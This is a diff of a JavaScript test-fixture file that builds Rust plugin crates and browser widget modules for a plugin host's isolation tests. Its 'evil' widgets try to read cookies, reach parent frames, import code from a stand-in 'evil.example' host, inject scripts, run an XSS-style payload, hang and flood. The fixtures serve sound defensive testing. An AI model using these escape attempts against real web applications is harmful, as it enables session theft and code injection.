@@ -31,7 +31,10 @@ version = "0.1.0"
 edition = "2024"
 [package.metadata.camlock]
 config = "config.schema.json"
-permissions = ["storage", "network:api.example.com"]
+permissions = ["storage", "network:api.example.com", "tasks", "schedule", "events:subscribe:greeter.*"]
+task_types = [{ type = "tidy", attempts = 1 }]
+schedules = [{ name = "nightly", cron = "30 3 * * *", zone = "Europe/Berlin" }]
+subscriptions = [{ pattern = "greeter.*", name = "heard", durable = true }]
 [lib]
 crate-type = ["cdylib"]
 [dependencies]
@@ -45,7 +48,7 @@ tracing = "0.1"
       key: { type: 'string', sensitive: true, title: 'Key' }, loud: { type: 'boolean' }, tone: { enum: ['low', 'high'] }, names: { type: 'array', items: { type: 'string' } },
     },
   }));
-  site.write('plugins/greeter/src/lib.rs', `use camlock_plugin::{axum::http::HeaderMap, prelude::*};
+  site.write('plugins/greeter/src/lib.rs', `use camlock_plugin::{Due, Event, Execution, Task, Value, axum::http::HeaderMap, json, prelude::*};
 struct Greeter;
 const HOSTILE: &[&str] = &[${HOSTILE.map(rust).join(', ')}];
 impl Plugin for Greeter {
@@ -59,8 +62,94 @@ impl Plugin for Greeter {
     fn routes(self: Arc<Self>) -> impl Into<Routes> {
         Router::new().route("/hostile", get(|| async { as_html() })).route("/cookies", get(|headers: HeaderMap| async move { format!("{headers:?}") }))
     }
+    async fn event(&self, event: Event) -> Result<()> {
+        if &*event.topic == "greeter.bad" { Err(Error::msg(HOSTILE.join(" "))) } else { Ok(()) }
+    }
+    async fn task(&self, task: Task) -> Result<Value> {
+        let input: Value = task.input()?;
+        if input["fails"] == true { return Err(Error::msg(HOSTILE.join(" "))); }
+        Ok(json!({ "tidied": HOSTILE }))
+    }
+    async fn schedule(&self, _due: Due) -> Result<()> { Ok(()) }
+    async fn execute(&self, execution: Execution) -> Result<Value> {
+        let input: Value = execution.input()?;
+        if input["fails"] == true { Err(Error::msg(HOSTILE.join(" "))) } else { Ok(json!({ "told": HOSTILE, "input": input })) }
+    }
 }
 fn as_html() -> ([(&'static str, &'static str); 1], String) { ([("content-type", "text/html")], HOSTILE.join("\\n")) }
 export!(Greeter);
 `);
 }
+
+/** A crate that brings widgets and pages: `parts` is its section `ui`, `files` what lies in its folder of that name. */
+export function brings(site, name, { permissions = [], parts, files, word = '1' }) {
+  site.write(`plugins/${name}/Cargo.toml`, `[workspace]
+[package]
+name = "${name}"
+version = "0.1.0"
+edition = "2024"
+[package.metadata.camlock]
+permissions = ${JSON.stringify(permissions)}
+[package.metadata.camlock.ui]
+${parts}
+[lib]
+crate-type = ["cdylib"]
+[dependencies]
+camlock-plugin = "1"
+`);
+  for (const [path, text] of Object.entries(files)) site.write(`plugins/${name}/ui/${path}`, text);
+  site.write(`plugins/${name}/src/lib.rs`, hello(word).split('---\n').at(-1));
+}
+
+export const clock = (word) => `
+import { shown } from './shared/shown.js';
+export const widgets = {
+  clock: {
+    async mount(root, ctx) {
+      const title = document.createElement('p');
+      title.textContent = shown('${word}');
+      const told = document.createElement('p');
+      const button = document.createElement('button');
+      button.textContent = 'Ask';
+      button.addEventListener('click', async () => {
+        const told_of = async (work) => { try { return await work(); } catch (error) { return error.status; } };
+        const plugin = await told_of(() => ctx.read('plugin'));
+        const called = await told_of(() => ctx.call('GET', '/hello'));
+        told.textContent = JSON.stringify([plugin.name ?? plugin, called.body ?? called]);
+      });
+      root.append(title, button, told);
+      return { update() {} };
+    },
+  },
+};
+export const pages = { board: { mount(root) { root.append(Object.assign(document.createElement('h1'), { textContent: 'A page of ${word}' })); } } };
+`;
+
+export const failing = "export const widgets = { clock: { mount() { throw new Error('<b>it cannot</b>'); } } };";
+
+/** Each means harm in its own way; what one got at is what it shows. */
+export const evil = {
+  'reaches.js': `
+export const widgets = { reaches: { async mount(root) {
+  const attempts = {
+    cookie: () => document.cookie || 'none', set: () => { document.cookie = 'a=1'; return document.cookie || 'none'; }, parent: () => parent.document.title, top: () => top.document.title, storage: () => localStorage.length, session: () => sessionStorage.length,
+    fetch: () => fetch('/api/v1/plugins').then(({ status }) => status), beacon: () => { navigator.sendBeacon('/session', 'x'); return 'none'; }, socket: () => new Promise((resolve, reject) => { const socket = new WebSocket('ws://' + location.host + '/'); socket.onopen = resolve; socket.onerror = reject; }),
+    elsewhere: () => import('https://evil.example/x.js'), data: () => import('data:text/javascript,export default 1'), shell: () => import('/' + document.querySelector('link').href.split('/').at(-2) + '/api.js'), markup: () => { const script = document.createElement('script'); script.textContent = 'globalThis.inlined = 1'; document.body.append(script); if (!globalThis.inlined) throw new Error('no'); return 'ran'; },
+    evaluate: () => new Function('return 1')(), frame: () => new Promise((resolve, reject) => { const frame = document.createElement('iframe'); frame.src = '/'; frame.onload = () => { try { resolve(frame.contentDocument.title); } catch (error) { reject(error); } }; document.body.append(frame); setTimeout(() => reject(new Error('no')), 300); }),
+    navigate: () => { top.location = 'about:blank'; throw new Error('no'); }, popup: () => { if (!open('about:blank')) throw new Error('no'); return 'opened'; },
+  };
+  const got = [];
+  for (const [name, attempt] of Object.entries(attempts)) {
+    try { const what = await Promise.race([attempt(), new Promise((_, reject) => setTimeout(() => reject(new Error('late')), 400))]); if (what !== 'none') got.push(name + ':' + what); } catch { /* as it should be */ }
+  }
+  root.replaceChildren(Object.assign(document.createElement('p'), { textContent: got.length ? 'got ' + got.join(' ') : 'got nothing' }));
+} } };`,
+  'throws.js': "export const widgets = { throws: { mount() { throw new Error('<img src=x onerror=ran()>'); } } };",
+  'later.js': "export const widgets = { later: { mount(root) { root.textContent = 'stands'; setTimeout(() => { throw new Error('later it breaks'); }, 50); } } };",
+  'lacks.js': 'export const widgets = {};',
+  'hangs.js': 'export const widgets = { hangs: { mount: () => new Promise(() => {}) } };',
+  'floods.js': "export const widgets = { floods: { async mount(root, ctx) { for (let times = 0; times < 100000; times += 1) ctx.say('<b>x</b>'); } } };",
+};
+/** It holds up all frames of plugins, for browsers give them one process; but not the page. */
+export const looping = 'export const widgets = { loops: { mount() { for (;;); } } };';
+export const evilParts = `widgets = [${Object.keys(evil).map((file) => file.replace('.js', '')).map((id) => `{ id = "${id}", title = "Evil ${id}", module = "${id}.js" }`).join(', ')}]`;
